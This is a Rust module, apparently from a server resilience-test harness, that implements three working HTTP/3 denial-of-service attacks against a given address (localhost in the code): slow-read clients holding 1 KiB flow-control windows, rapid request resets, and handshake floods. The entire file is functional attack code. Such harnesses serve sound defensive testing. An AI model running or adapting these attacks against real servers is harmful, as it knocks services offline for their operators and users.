//! Attacks over HTTP/3, by frames of their own (RFC 9114).

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;

use anyhow::{Context, Result, bail};
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{Endpoint, TransportConfig, VarInt};

use super::attacker::{Attack, Attacker, config};

pub(super) fn attacks() -> Vec<Attack> {
    let attack = Attack::over_quic;
    vec![
        attack(
            "http3-small-windows",
            "250 clients that ask for 100 files of 100 MB each, with windows of 1 KiB that they never open",
            250,
            |address| -> Attacker { Box::pin(small_windows(address)) },
        ),
        attack(
            "http3-rapid-reset",
            "4 clients that reset each request at once",
            4,
            |address| Box::pin(rapid_reset(address)),
        ),
        attack(
            "http3-handshakes",
            "32 clients that only shake hands",
            32,
            |address| {
                Box::pin(async move {
                    loop {
                        let (endpoint, connection) = connect(address, 1 << 20).await?;
                        connection.close(VarInt::from_u32(0x100), b"");
                        endpoint.wait_idle().await;
                    }
                })
            },
        ),
    ]
}

/// A HEADERS frame of `GET https://localhost/large.bin` in QPACK, by the static table alone
/// (RFC 9204 appendix A).
fn request() -> Vec<u8> {
    let path = b"/large.bin";
    let host = b"localhost";
    let fields = [
        &[0, 0, 0xc0 | 17, 0xc0 | 23, 0x51, path.len() as u8][..],
        path,
        &[0x50, host.len() as u8],
        host,
    ]
    .concat();
    [&[1, fields.len() as u8][..], &fields].concat()
}

async fn connect(address: SocketAddr, window: u32) -> Result<(Endpoint, quinn::Connection)> {
    let mut transport = TransportConfig::default();
    transport
        .stream_receive_window(VarInt::from_u32(window))
        .receive_window(VarInt::from_u32(window.saturating_mul(100)));
    let crypto = QuicClientConfig::try_from(config("h3")?)?;
    let mut client = quinn::ClientConfig::new(Arc::new(crypto));
    client.transport_config(Arc::new(transport));
    let endpoint = Endpoint::client((Ipv4Addr::UNSPECIFIED, 0).into())?;
    let connection = endpoint.connect_with(client, address, "localhost")?.await?;
    let mut control = connection.open_uni().await?;
    // The stream's type, and empty SETTINGS.
    control.write_all(&[0, 4, 0]).await?;
    // Dropping the stream would finish it, which is an error (RFC 9114 §6.2.1).
    std::mem::forget(control);
    Ok((endpoint, connection))
}

async fn small_windows(address: SocketAddr) -> Result<()> {
    let (_endpoint, connection) = connect(address, 1024).await?;
    let mut streams = Vec::new();
    for _ in 0..100 {
        let (mut send, receive) = connection.open_bi().await?;
        send.write_all(&request()).await?;
        send.finish()?;
        streams.push(receive);
    }
    bail!("closed: {}", connection.closed().await)
}

async fn rapid_reset(address: SocketAddr) -> Result<()> {
    let (_endpoint, connection) = connect(address, 1 << 20).await?;
    loop {
        let (mut send, mut receive) = connection.open_bi().await.context("closed")?;
        send.write_all(&request()).await?;
        // H3_REQUEST_CANCELLED (RFC 9114 §8.1).
        let code = VarInt::from_u32(0x10c);
        send.reset(code)?;
        receive.stop(code)?;
    }
}
